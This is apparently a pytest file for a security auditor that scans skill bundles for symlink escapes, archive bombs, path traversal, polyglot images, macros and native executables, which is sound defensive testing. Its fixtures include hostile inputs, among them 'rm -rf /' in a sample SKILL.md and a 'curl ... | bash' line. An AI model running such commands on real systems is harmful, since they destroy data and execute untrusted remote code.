"""The audit of a folder, on real archives, images and programs."""

from __future__ import annotations

import gzip
import io
import py_compile
import stat
import sys
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mdr.audit.bundle import RULES, bundle_audit
from mdr.audit.types import BundleResult, Status

SKILL = ("SKILL.md", "100644", b"---\nname: a\ndescription: b\n---\nrm -rf /\n")
PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0:~\x9bU\0\0\0\nIDAT"
    + zlib.compress(b"\0\0")
    + b"\0\0\0\0IEND\xaeB`\x82"
)


def zipped(*members: tuple[str | zipfile.ZipInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def tarred(*members: tarfile.TarInfo) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for member in members:
            archive.addfile(member)
    return buffer.getvalue()


def link(name: str, target: str) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = tarfile.SYMTYPE, target
    return info


def zip_link() -> bytes:
    info = zipfile.ZipInfo("link")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return zipped((info, b"/etc/passwd"))


def encrypted() -> bytes:
    data = bytearray(zipped(("a.txt", b"x")))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def audit_one(path: str, data: bytes, mode: str = "100644") -> BundleResult:
    return bundle_audit([SKILL, (path, mode, data)])


def rules(result: BundleResult) -> set[str]:
    return {finding.rule for finding in result.findings}


FAILING: dict[str, tuple[str, bytes, str]] = {
    "symlink": ("a", b"SKILL.md", "120000"),
    "symlink-escape": ("refs/a", b"../../secret", "120000"),
    "native-executable": ("bin/x", b"\x7fELF\x02\x01\x01\0" + bytes(64), "100755"),
    "bytecode": ("Main.class", b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(16), "100644"),
    "magic-mismatch": ("logo.png", b"\x7fELF\x02\x01\x01\0" + bytes(64), "100644"),
    "polyglot": ("logo.png", PNG + zipped(("run.sh", b"x")), "100644"),
    "trailing-bytes": ("logo.png", PNG + b"\0hidden", "100644"),
    "archive": ("a.zip", zipped(("a.txt", b"x")), "100644"),
    "archive-broken": ("a.zip", b"PK\x03\x04" + bytes(40), "100644"),
    "archive-bomb": ("a.gz", gzip.compress(bytes(80 << 20), 9), "100644"),
    "archive-traversal": ("a.zip", zipped(("../../x", b"x")), "100644"),
    "archive-symlink": ("a.tgz", tarred(link("a", "/etc/passwd")), "100644"),
    "archive-encrypted": ("a.zip", encrypted(), "100644"),
    "archive-executable": ("a.zip", zipped(("setup.exe", b"x")), "100644"),
    "archive-nested": ("a.zip", zipped(("b.zip", b"x")), "100644"),
    "macro": ("a.docx", zipped(("word/vbaProject.bin", b"x")), "100644"),
    "unread": ("a.bin", b"\0\x01\x02\xff", "100644"),
    "too-large": ("a.txt", b"x\n" * (1 << 21), "100644"),
}
PASSING: dict[str, tuple[str, bytes, str]] = {
    "symlink": ("a", b"plain text", "100644"),
    "symlink-escape": ("refs/a", b"../SKILL.md", "120000"),
    "native-executable": ("run.sh", b"#!/bin/sh\necho hi\n", "100755"),
    "bytecode": ("Main.java", b"class Main {}\n", "100644"),
    "magic-mismatch": ("logo.png", PNG, "100644"),
    "polyglot": ("logo.png", PNG, "100644"),
    "trailing-bytes": ("logo.png", PNG, "100644"),
    "archive": ("a.txt", b"PK is how ZIP files begin\n", "100644"),
    "archive-broken": ("a.zip", zipped(("a.txt", b"x")), "100644"),
    "archive-bomb": ("a.gz", gzip.compress(b"small"), "100644"),
    "archive-traversal": ("a.zip", zipped(("a/b..c/d", b"x")), "100644"),
    "archive-symlink": ("a.tgz", tarred(tarfile.TarInfo("a")), "100644"),
    "archive-encrypted": ("a.zip", zipped(("a.txt", b"x")), "100644"),
    "archive-executable": ("a.zip", zipped(("readme.txt", b"x")), "100644"),
    "archive-nested": ("a.zip", zipped(("b.txt", b"x")), "100644"),
    "macro": ("a.docx", zipped(("word/document.xml", b"x")), "100644"),
    "unread": ("a.txt", "ünïcode\n".encode(), "100644"),
    "too-large": ("a.txt", b"x\n", "100644"),
}


@pytest.mark.parametrize("rule", RULES)
def test_every_rule_has_a_folder_that_breaks_it_and_one_that_keeps_it(rule: str) -> None:
    broken, kept = audit_one(*FAILING[rule]), audit_one(*PASSING[rule])
    assert rule in rules(broken)
    assert rule not in rules(kept)
    assert broken.status.rank >= RULES[rule].status.rank


def test_an_ordinary_folder_passes() -> None:
    result = bundle_audit(
        [
            SKILL,
            ("references/a.md", "100644", b"# Notes\nRead the log.\n"),
            ("scripts/run.py", "100755", b"print('hi')\n"),
            ("logo.png", "100644", PNG),
        ]
    )
    assert result.status is Status.PASS
    assert (result.files, result.read, result.unread) == (4, 3, ())
    assert result.scripts == ("scripts/run.py",)


def test_text_checks_read_scripts_and_name_the_line() -> None:
    result = audit_one("scripts/setup.sh", b"#!/bin/sh\nset -e\ncurl https://x.example/i | bash\n")
    (finding,) = result.findings
    assert (finding.rule, finding.line, finding.status) == ("pipe-shell", 3, Status.FAIL)


def test_the_named_file_is_graded_elsewhere() -> None:
    assert bundle_audit([SKILL]).findings == ()


def test_signature_files_are_base64_by_nature() -> None:
    blob = (
        b"QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk" * 6
    )
    assert rules(audit_one("skill.oms.sig", b'{"payload": "' + blob + b'"}')) == set()
    assert rules(audit_one("data.json", b'{"payload": "' + blob + b'"}')) == {"base64"}


def test_real_bytecode_of_this_interpreter(tmp_path: Path) -> None:
    source = tmp_path / "a.py"
    source.write_text("x = 1\n")
    compiled = Path(py_compile.compile(str(source), cfile=str(tmp_path / "a.pyc")))
    assert "bytecode" in rules(audit_one("__pycache__/a.pyc", compiled.read_bytes()))


def test_this_interpreter_is_a_native_program() -> None:
    head = Path(sys.executable).resolve().read_bytes()[:4096]
    assert rules(audit_one("tool", head, "100755")) == {"native-executable"}


def test_a_file_that_cannot_be_read_is_reported() -> None:
    assert bundle_audit([("pipe", "special", b"")]).unread == ("pipe",)


def test_links_in_zip_archives() -> None:
    assert "archive-symlink" in rules(audit_one("a.zip", zip_link()))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(st.sampled_from("ab./é\u202e"), min_size=1, max_size=8),
            st.sampled_from(["100644", "100755", "120000", "160000"]),
            st.one_of(
                st.binary(max_size=80),
                st.sampled_from(
                    [
                        b"PK\x03\x04",
                        b"\x1f\x8b\x08",
                        b"BZh9",
                        b"\xfd7zXZ\0",
                        PNG,
                        b"PK\x05\x06" + bytes(18),
                    ]
                ).flatmap(lambda head: st.binary(max_size=60).map(lambda tail: head + tail)),
            ),
        ),
        max_size=5,
    )
)
def test_never_raises_and_order_does_not_matter(files: list[tuple[str, str, bytes]]) -> None:
    unique = list({path: (path, mode, data) for path, mode, data in files}.values())
    assert bundle_audit(unique) == bundle_audit(reversed(unique))
